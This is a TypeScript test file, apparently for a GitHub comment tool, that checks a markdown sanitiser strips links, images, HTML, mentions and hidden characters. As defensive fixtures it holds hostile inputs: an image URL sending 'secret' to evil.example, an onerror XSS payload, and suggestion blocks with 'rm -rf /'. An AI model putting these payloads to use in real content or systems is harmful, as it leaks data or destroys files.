import fc from "fast-check";
import type { Nodes } from "mdast";
import { fromMarkdown } from "mdast-util-from-markdown";
import { gfmFromMarkdown } from "mdast-util-gfm";
import { gfm } from "micromark-extension-gfm";
import { describe, expect, test } from "vitest";
import { safeInline, safeMarkdown } from "../src/render/safe-markdown.ts";

describe("safeMarkdown", () => {
  test("keeps code, emphasis and lists", () => {
    const text = "Use `a < b`, **not** _this_:\n\n- one\n- two\n\n```ts\nconst a = 1;\n```";
    expect(safeMarkdown(text)).toMatchInlineSnapshot(`
      "Use \`a < b\`, **not** *this*:

      - one
      - two

      \`\`\`ts
      const a = 1;
      \`\`\`"
    `);
  });

  test.each([
    ["an image", "![x](https://evil.example/?q=secret)", /!\[|\]\(/],
    ["a link", "see [docs](https://evil.example/)", /\]\(|evil/],
    ["a reference link", "see [docs][1]\n\n[1]: https://evil.example/", /^\[1\]:/m],
    ["HTML", "<img src=x onerror=alert(1)> <b>x</b>", /(^|[^`])<(img|b)/],
    ["a block of HTML", "<details open>\n<summary>x</summary>\n</details>", /(^|\n)<details/],
    ["an HTML comment that looks like our marker", "<!-- devflow:comment abc -->", /(^|[^`])<!--/],
    ["a suggestion that nobody checked", "```suggestion\nrm -rf\n```", /```suggestion/],
    ["a heading", "# LOUD", /^#/m],
  ])("takes out %s", (_name, text, forbidden) => {
    expect(safeMarkdown(text)).not.toMatch(forbidden);
  });

  test.each([
    ["@octocat please", "`@octocat` please"],
    ["mail bob@example.com", "mail `bob@example.com`"],
    ["fixes #12", "fixes `#12`"],
    ["see acme/app#7 and GH-9", "see `acme/app#7` and `GH-9`"],
    ["go to https://evil.example/x now", "go to `https://evil.example/x` now"],
  ])("makes %s inert", (text, safe) => {
    expect(safeMarkdown(text)).toBe(safe);
  });

  test("takes out characters that nobody sees", () => {
    expect(safeMarkdown("a\u200bb\u202ec\u{E0041}d\u0007e")).toBe("abcde");
  });

  test("never lets an active construct through, whatever the text", () => {
    const piece = fc.constantFrom(
      "<img src=x>",
      "![a](b)",
      "[a](http://x.y)",
      "@octocat",
      "#12",
      "http://x.y",
      "`",
      "```",
      "~~~",
      "\n",
      "\n\n",
      " ",
      "- ",
      "> ",
      "1. ",
      "    ",
      "\\",
      "|",
      "a",
      "*",
      "_",
      "<",
      "&lt;",
      "]: http://x",
      "[1]",
    );
    fc.assert(
      fc.property(fc.array(piece, { maxLength: 30 }), (pieces) => {
        const { kinds, texts } = whatGitHubSees(safeMarkdown(pieces.join("")));
        expect(kinds).not.toContain("html");
        expect(kinds).not.toContain("image");
        expect(kinds).not.toContain("link");
        expect(kinds).not.toContain("definition");
        expect(texts.join("\n")).not.toMatch(/https?:\/\/x|@octocat|#12/);
      }),
      { numRuns: 500 },
    );
  });
});

test("safeInline gives one line without a list or heading mark", () => {
  expect(safeInline("## Title\nof two lines")).toBe("Title of two lines");
});

test("a suggestion's fence inside of a longer one is no line of its own for those who look for it", () => {
  const shown = safeMarkdown("````\nzq\n```suggestion\nrm -rf /\n```\n````");
  expect(shown).toContain("    ```suggestion");
  expect(shown).not.toMatch(/^ {0,3}`{3,}suggestion/m);
});

/** The result read anew as GitHub reads it: the kinds of its nodes, and the text outside code. */
function whatGitHubSees(markdown: string): { kinds: string[]; texts: string[] } {
  const kinds: string[] = [];
  const texts: string[] = [];
  const visit = (node: Nodes) => {
    kinds.push(node.type);
    if (node.type === "text") texts.push(node.value);
    if ("children" in node) for (const child of node.children) visit(child);
  };
  visit(fromMarkdown(markdown, { extensions: [gfm()], mdastExtensions: [gfmFromMarkdown()] }));
  return { kinds, texts };
}
